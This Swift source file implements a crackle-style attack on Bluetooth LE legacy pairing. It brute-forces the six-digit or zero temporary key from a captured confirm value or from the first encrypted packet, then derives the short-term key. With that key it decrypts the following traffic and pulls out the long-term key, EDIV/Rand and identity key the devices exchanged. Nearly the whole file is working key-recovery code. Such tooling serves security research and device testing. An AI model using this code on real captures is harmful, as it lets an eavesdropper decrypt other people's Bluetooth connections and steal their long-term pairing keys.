import BLEBytes

/// What an over-the-air capture of an LE legacy pairing shows (Core 5.4 Vol 3 Part H 2.3.5):
/// everything c1 and s1 take except the TK.
public struct LegacyPairingExchange: Sendable, Hashable {
    /// The Pairing Request and Pairing Response PDUs, 7 octets each, code first, as on the air.
    public var pairingRequest: [UInt8]
    public var pairingResponse: [UInt8]
    /// The initiator (central: CONNECT_IND's InitA) and responder (AdvA) addresses and whether
    /// each is random (TxAdd/RxAdd).
    public var initiatorAddress: BDAddr
    public var initiatorAddressIsRandom: Bool
    public var responderAddress: BDAddr
    public var responderAddressIsRandom: Bool
    /// Pairing Confirm and Pairing Random values, read as numbers from their 16 little-endian
    /// octets (`ByteView.littleEndianUInt128(at:)`). Either confirm suffices: Mconfirm is checked with Mrand,
    /// Sconfirm with Srand.
    public var mconfirm: UInt128?
    public var sconfirm: UInt128?
    public var mrand: UInt128
    public var srand: UInt128

    public init(
        pairingRequest: [UInt8], pairingResponse: [UInt8], initiatorAddress: BDAddr, initiatorAddressIsRandom: Bool,
        responderAddress: BDAddr, responderAddressIsRandom: Bool, mconfirm: UInt128?, sconfirm: UInt128?,
        mrand: UInt128, srand: UInt128
    ) {
        self.pairingRequest = pairingRequest
        self.pairingResponse = pairingResponse
        self.initiatorAddress = initiatorAddress
        self.initiatorAddressIsRandom = initiatorAddressIsRandom
        self.responderAddress = responderAddress
        self.responderAddressIsRandom = responderAddressIsRandom
        self.mconfirm = mconfirm
        self.sconfirm = sconfirm
        self.mrand = mrand
        self.srand = srand
    }

    /// Both sides set AuthReq's SC bit (octet 3, bit 3): LE Secure Connections, whose keys come
    /// from ECDH and cannot be recovered from the air (Vol 3 Part H 2.3.1, 3.5.1).
    public static func usesSecureConnections(pairingRequest: ByteView, pairingResponse: ByteView) -> Bool {
        guard let req = pairingRequest.u8(3), let rsp = pairingResponse.u8(3) else { return false }
        return req & 0x08 != 0 && rsp & 0x08 != 0
    }
}

/// How the TK was chosen, as far as the recovered value tells: TK 0 is Just Works (or a
/// Passkey Entry that happened to use 000000: the two are indistinguishable on the air);
/// anything else is the six-digit passkey both sides entered or displayed.
public enum LegacyPairingMethod: Sendable, Hashable, CustomStringConvertible {
    case justWorks
    case passkeyEntry(passkey: UInt32)

    public var description: String {
        switch self {
        case .justWorks: "Just Works (TK 0)"
        case .passkeyEntry(let passkey):
            "Passkey Entry (passkey \(String(repeating: "0", count: max(0, 6 - String(passkey).count)))\(passkey))"
        }
    }
}

/// The cracker's verdict.
public enum LegacyPairingCrackResult: Sendable, Hashable, CustomStringConvertible {
    /// TK found; STK = s1(TK, Srand, Mrand) encrypts the link until the distributed LTK takes over.
    case recovered(tk: UInt128, method: LegacyPairingMethod, stk: UInt128)
    /// LE Secure Connections: nothing on the air gives the key.
    case secureConnections
    case failed(LegacyPairingCrackFailure)

    public var description: String {
        switch self {
        case .recovered(let tk, let method, let stk):
            "recovered: \(method), TK \(tk.hexMSBFirst), STK \(stk.hexMSBFirst)"
        case .secureConnections: "LE Secure Connections: cannot decrypt without the LTK"
        case .failed(let why): "not recovered: \(why)"
        }
    }
}

public enum LegacyPairingCrackFailure: Sendable, Hashable, CustomStringConvertible {
    /// A pairing PDU is not a 7-octet Pairing Request (0x01) / Response (0x02).
    case malformedPairingPDU
    /// Neither Pairing Confirm was captured: crackle's slow strategy, brute-forcing the STK
    /// against the first encrypted PDU, is `LegacyPairingCracker.crackWithoutConfirm`.
    case missingConfirm
    /// No TK in 0…999999 reproduces the confirm value: Out of Band data, or the capture's
    /// values are not one pairing's.
    case noPasskeyMatches

    public var description: String {
        switch self {
        case .malformedPairingPDU: "the Pairing Request/Response is not 7 octets with codes 0x01/0x02"
        case .missingConfirm: "no Pairing Confirm in the capture (needs the first encrypted PDU instead)"
        case .noPasskeyMatches: "no TK in 0…999999 reproduces the confirm value (OOB pairing?)"
        }
    }
}

/// The result plus how long it took and how many TKs were tried.
public struct LegacyPairingCrackReport: Sendable, Hashable {
    public var result: LegacyPairingCrackResult
    public var attempts: Int
    public var elapsed: Duration
}

/// Keys one side distributed in the pairing's third phase (Core 5.4 Vol 3 Part H 3.6).
public struct DistributedKeySet: Sendable, Hashable {
    /// Encryption Information (0x06): the LTK this side will accept in a later LL_ENC_REQ.
    public var ltk: UInt128?
    /// Central Identification (0x07): the EDIV and Rand that name that LTK.
    public var ediv: UInt16?
    public var rand: UInt64?
    /// Identity Information (0x08): the IRK.
    public var irk: UInt128?

    public init() {}
    public var isEmpty: Bool { ltk == nil && ediv == nil && rand == nil && irk == nil }
}

/// One PDU `distributedKeys` decrypted: its index in the input, how it verified, its plaintext.
public struct DecryptedPDU: Sendable, Hashable {
    public var index: Int
    public var match: LinkLayerDecryptor.Match
    public var plaintext: [UInt8]
}

/// What the STK-encrypted PDUs after a legacy pairing gave.
public struct DistributedKeys: Sendable, Hashable {
    /// The responder's (peripheral → central) and the initiator's (central → peripheral) keys.
    public var peripheral = DistributedKeySet()
    public var central = DistributedKeySet()
    /// How many encrypted PDUs verified and decrypted, out of how many.
    public var decryptedPDUs = 0
    public var encryptedPDUs = 0
    /// The decrypted PDUs in input order.
    public var plaintexts: [DecryptedPDU] = []

    public init() {}

    /// The LTK that encrypts this pair's later connections: the peripheral's (a central
    /// reconnecting uses the key its peer distributed), else the central's.
    public var ltk: UInt128? { peripheral.ltk ?? central.ltk }
}

/// An encrypted data PDU as captured: the header's first octet, the payload (ciphertext ‖ MIC)
/// and the direction when the capture knows it.
public struct EncryptedDataPDU: Sendable, Hashable {
    public var header: UInt8
    public var payload: [UInt8]
    public var direction: LinkLayerDirection?

    public init(header: UInt8, payload: [UInt8], direction: LinkLayerDirection?) {
        self.header = header
        self.payload = payload
        self.direction = direction
    }
}

/// Recovers the keys of a captured LE legacy pairing the way crackle does (Mike Ryan, 2013):
/// the TK of Just Works is 0 and a passkey's is at most 999999, so at most a million c1
/// evaluations find the TK that reproduces the captured confirm value; s1 gives the STK, the
/// STK and LL_ENC_REQ/RSP give the session key, and the encrypted SMP Encryption Information
/// PDU then gives the LTK the devices will use from now on.
public enum LegacyPairingCracker {
    /// The largest six-digit passkey.
    public static let maximumPasskey: UInt32 = 999_999

    /// Finds the TK: 0 first (Just Works), then every passkey in `passkeys` (all six-digit ones
    /// unless told otherwise: a narrower range is for tests and for splitting the work). Pure
    /// apart from reading the clock.
    public static func crack(
        _ x: LegacyPairingExchange, passkeys: ClosedRange<UInt32> = 0...maximumPasskey
    ) -> LegacyPairingCrackReport {
        let start = ContinuousClock.now
        func report(_ r: LegacyPairingCrackResult, _ n: Int) -> LegacyPairingCrackReport {
            LegacyPairingCrackReport(result: r, attempts: n, elapsed: ContinuousClock.now - start)
        }
        let pdus = x.pairingRequest.withByteView { req in
            x.pairingResponse.withByteView { rsp -> (UInt64, UInt64, Bool)? in
                guard req.count == 7, rsp.count == 7, req.u8(0) == 0x01, rsp.u8(0) == 0x02,
                    let preq = req.littleEndianUInt56(at: 0), let pres = rsp.littleEndianUInt56(at: 0)
                else { return nil }
                return (
                    preq, pres,
                    LegacyPairingExchange.usesSecureConnections(pairingRequest: req, pairingResponse: rsp)
                )
            }
        }
        guard let (preq, pres, secure) = pdus else { return report(.failed(.malformedPairingPDU), 0) }
        if secure { return report(.secureConnections, 0) }
        guard let (confirm, random) = x.mconfirm.map({ ($0, x.mrand) }) ?? x.sconfirm.map({ ($0, x.srand) }) else {
            return report(.failed(.missingConfirm), 0)
        }
        let p1 = SecurityFunction.c1P1(
            preq: preq, pres: pres, iat: x.initiatorAddressIsRandom ? 1 : 0, rat: x.responderAddressIsRandom ? 1 : 0)
        let p2 = SecurityFunction.c1P2(ia: x.initiatorAddress.rawValue, ra: x.responderAddress.rawValue)
        // r ⊕ p1 does not depend on the TK: computed once.
        let rp1 = random ^ p1
        let last = min(passkeys.upperBound, maximumPasskey)
        var passkey = passkeys.lowerBound
        var attempts = 0
        while passkey <= last {
            attempts += 1
            let aes = AES128(key: UInt128(passkey))
            if aes.encrypt(aes.encrypt(rp1) ^ p2) == confirm {
                let tk = UInt128(passkey)
                let method: LegacyPairingMethod = passkey == 0 ? .justWorks : .passkeyEntry(passkey: passkey)
                let stk = SecurityFunction.s1(k: tk, r1: x.srand, r2: x.mrand)
                return report(.recovered(tk: tk, method: method, stk: stk), attempts)
            }
            passkey += 1
        }
        return report(.failed(.noPasskeyMatches), attempts)
    }

    /// crackle's slow strategy, for captures that missed the Pairing Confirm PDUs: for each TK,
    /// STK = s1(TK, Srand, Mrand), the session key from it, and the first encrypted PDU after
    /// LL_START_ENC_REQ (LL_START_ENC_RSP, packet counter 0 in either direction) decrypted
    /// until its MIC verifies. About five times the work per TK of `crack`.
    public static func crackWithoutConfirm(
        _ x: LegacyPairingExchange, parameters: LinkLayerEncryptionParameters, firstEncrypted pdu: EncryptedDataPDU,
        passkeys: ClosedRange<UInt32> = 0...maximumPasskey
    ) -> LegacyPairingCrackReport {
        let start = ContinuousClock.now
        func report(_ r: LegacyPairingCrackResult, _ n: Int) -> LegacyPairingCrackReport {
            LegacyPairingCrackReport(result: r, attempts: n, elapsed: ContinuousClock.now - start)
        }
        let secure = x.pairingRequest.withByteView { req in
            x.pairingResponse.withByteView { rsp -> Bool? in
                guard req.count == 7, rsp.count == 7, req.u8(0) == 0x01, rsp.u8(0) == 0x02 else { return nil }
                return LegacyPairingExchange.usesSecureConnections(pairingRequest: req, pairingResponse: rsp)
            }
        }
        guard let secure else { return report(.failed(.malformedPairingPDU), 0) }
        if secure { return report(.secureConnections, 0) }
        var plaintext: [UInt8] = []
        plaintext.reserveCapacity(LinkLayerCipher.maximumPlaintextLength)
        let last = min(passkeys.upperBound, maximumPasskey)
        var passkey = passkeys.lowerBound
        var attempts = 0
        while passkey <= last {
            attempts += 1
            let tk = UInt128(passkey)
            let stk = SecurityFunction.s1(k: tk, r1: x.srand, r2: x.mrand)
            let cipher = LinkLayerCipher(ltk: stk, parameters: parameters)
            let verified = pdu.payload.withByteView { v in
                DirectionCandidates(pdu.direction).contains {
                    cipher.decrypt(v, header: pdu.header, counter: 0, direction: $0, into: &plaintext)
                }
            }
            if verified {
                let method: LegacyPairingMethod = passkey == 0 ? .justWorks : .passkeyEntry(passkey: passkey)
                return report(.recovered(tk: tk, method: method, stk: stk), attempts)
            }
            passkey += 1
        }
        return report(.failed(.noPasskeyMatches), attempts)
    }

    /// Decrypts the STK-encrypted PDUs that follow the pairing and collects the keys the SMP
    /// key distribution sent in them. `pdus` in capture order; retransmissions and missed PDUs
    /// are handled by `LinkLayerDecryptor`'s counter search. Only SMP PDUs that fit one LL PDU
    /// (all of phase 3's do with the 27-octet minimum) are read.
    public static func distributedKeys(
        stk: UInt128, parameters: LinkLayerEncryptionParameters, pdus: [EncryptedDataPDU]
    ) -> DistributedKeys {
        var decryptor = LinkLayerDecryptor(cipher: LinkLayerCipher(ltk: stk, parameters: parameters))
        var keys = DistributedKeys()
        var plaintext: [UInt8] = []
        plaintext.reserveCapacity(LinkLayerCipher.maximumPlaintextLength)
        for (index, pdu) in pdus.enumerated() where !pdu.payload.isEmpty {
            keys.encryptedPDUs += 1
            let found = pdu.payload.withByteView {
                decryptor.decrypt(pdu: $0, header: pdu.header, direction: pdu.direction, into: &plaintext)
            }
            guard let match = found else { continue }
            keys.decryptedPDUs += 1
            keys.plaintexts.append(DecryptedPDU(index: index, match: match, plaintext: plaintext))
            // LLID 0b10: the start of an L2CAP PDU. Basic header: length, CID 0x0006 (SMP).
            guard pdu.header & 0x03 == 0x02 else { continue }
            var set = match.direction == .peripheralToCentral ? keys.peripheral : keys.central
            plaintext.withByteView { v in
                guard v.u16le(2) == 0x0006, let code = v.u8(4) else { return }
                switch code {
                case 0x06: if let ltk = v.littleEndianUInt128(at: 5) { set.ltk = ltk }
                case 0x07:
                    if let ediv = v.u16le(5), let rand = v.u64le(7) {
                        set.ediv = ediv
                        set.rand = rand
                    }
                case 0x08: if let irk = v.littleEndianUInt128(at: 5) { set.irk = irk }
                default: break
                }
            }
            if match.direction == .peripheralToCentral { keys.peripheral = set } else { keys.central = set }
        }
        return keys
    }
}
